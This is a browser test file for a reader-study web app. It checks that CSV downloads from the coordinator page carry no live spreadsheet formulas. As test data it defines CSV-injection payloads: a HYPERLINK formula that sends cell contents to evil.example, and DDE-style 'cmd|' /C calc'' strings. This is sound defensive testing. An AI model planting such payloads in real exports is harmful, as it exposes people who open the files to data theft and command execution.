"""The coordinator page in Chromium: no spreadsheet formula leaves it through a CSV download.

Before: ``st.dataframe``'s toolbar offered "Download as CSV", which writes the raw cells, so a case id such as
``=HYPERLINK(...)`` from the case file reached the spreadsheet as a live formula. Now ``cxrbench study serve`` hides
that control (``client.disableDataExport``) and the cells are shown neutralised (a leading ``'``), so even a server
started without the option exports no formula; the coordinator's own ``reads_long.csv`` download is checked too.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from test_browser_resume import CHROMIUM, launch_chromium, login, streamlit_server
from test_browser_resume import _free_port as free_port

from readerstudy.cli import serve_command
from readerstudy.store.coordinator_api import lock_study
from readerstudy.store.csv_safety import FORMULA_TRIGGERS
from readerstudy.store.engine import StudyDB, open_db
from readerstudy.store.reader_api import ReadAnswers, submit_read
from readerstudy.study.build import CaseRecord, build_from_records
from readerstudy.study.protocol import protocol_from_dict

sync_api = pytest.importorskip("playwright.sync_api", reason="python package playwright is not installed")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} missing (apt-get install chromium)"),
]
CASE_ID = '=HYPERLINK("http://evil.example/?"&A1,"open")'
SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "+1+cmd|' /C calc'!A0"
# Streamlit saves a dataframe export through the File System Access API when the browser has it; without it,
# it falls back to an ordinary download, which Playwright can catch.
_NO_FILE_PICKER = "delete window.showSaveFilePicker;"


def _study(tmp_path: Path) -> StudyDB:
    records = [
        CaseRecord(
            "cases.csv",
            k + 2,
            {
                "case_id": CASE_ID if k == 0 else f"case-{k}",
                "site": SITE if k == 0 else "site-b",
                "original_report": f"FINDINGS: Finding {k}. IMPRESSION: Impression {k}.",
                "ai_report": f"FINDINGS: Other finding {k}. IMPRESSION: Other impression {k}.",
            },
        )
        for k in range(3)
    ]
    protocol = protocol_from_dict(
        {
            "name": "CSV study",
            "seed": "csv",
            "readers": [{"id": "r1", "password": "pw-r1"}],
            "coordinators": [{"id": "coord", "password": "pw-coord"}],
        }
    )
    db = open_db(
        build_from_records(records, protocol, tmp_path / "study.db", allow_distinguishable=True).db_url
    )
    for order in range(3):
        submit_read(db, "r1", order, ReadAnswers({"diagnostic clarity": "A"}, reason=REASON), None)
    lock_study(db, "coord")
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with a trigger and not a plain number such as -1."""
    live = []
    for cell in cells:
        if cell[:1] in FORMULA_TRIGGERS:
            try:
                float(cell)
            except ValueError:
                live.append(cell)
    return live


def _open_key_table(page, url: str) -> None:  # type: ignore[no-untyped-def]
    page.goto(url)
    login(page, "coord", "pw-coord")
    page.get_by_text("The study is locked.").wait_for()
    page.get_by_role("button", name="Unblind (show the key)").click()
    page.locator("[data-testid=stDataFrame]").nth(1).wait_for()  # progress, then the key table


def _toolbar_download(page, table: int):  # type: ignore[no-untyped-def]
    """The toolbar's CSV button of the ``table``-th dataframe (the toolbar shows on hover)."""
    page.locator("[data-testid=stDataFrame]").nth(table).hover()
    return page.get_by_role("button", name="Download as CSV").nth(table)


def test_served_dataframes_offer_no_raw_csv_and_the_export_is_safe(tmp_path: Path) -> None:
    db = _study(tmp_path)
    port = free_port()
    url = f"http://127.0.0.1:{port}/"
    with sync_api.sync_playwright() as playwright, streamlit_server(db, port, tmp_path / "streamlit.log"):
        browser = launch_chromium(playwright)
        page = browser.new_page(accept_downloads=True)
        page.set_default_timeout(30_000)
        _open_key_table(page, url)
        for table in (0, 1):
            _toolbar_download(page, table)
            page.wait_for_timeout(300)  # the toolbar fades in on hover
            assert page.get_by_role("button", name="Download as CSV").count() == 0
        page.get_by_role("button", name="Prepare reads export (CSV)").click()
        with page.expect_download() as download:
            page.get_by_role("button", name="Download reads_long.csv").click()
        text = Path(download.value.path()).read_text(encoding="utf-8")
        browser.close()
    cells = _cells(text)
    assert "'" + CASE_ID in cells and "'" + SITE in cells and "'" + REASON in cells
    assert _live_formulas(cells) == []


def test_dataframe_export_of_a_server_without_the_option_is_neutralised(tmp_path: Path) -> None:
    db = _study(tmp_path)
    port = free_port()
    url = f"http://127.0.0.1:{port}/"
    command = serve_command(db.url, port, "127.0.0.1")
    command[command.index("--") : command.index("--")] = ["--client.disableDataExport", "false"]
    with (
        sync_api.sync_playwright() as playwright,
        streamlit_server(db, port, tmp_path / "streamlit.log", command=command),
    ):
        browser = launch_chromium(playwright)
        page = browser.new_page(accept_downloads=True)
        page.add_init_script(_NO_FILE_PICKER)
        page.set_default_timeout(30_000)
        _open_key_table(page, url)
        button = _toolbar_download(page, 1)
        button.wait_for()  # the control is there on such a server ...
        with page.expect_download() as download:
            button.dispatch_event("click")  # the grid can overlap the hover toolbar and take a pointer click
        text = Path(download.value.path()).read_text(encoding="utf-8-sig")
        browser.close()
    cells = _cells(text)  # ... but what it exports carries no formula
    assert "'" + CASE_ID in cells and "'" + SITE in cells
    assert _live_formulas(cells) == []
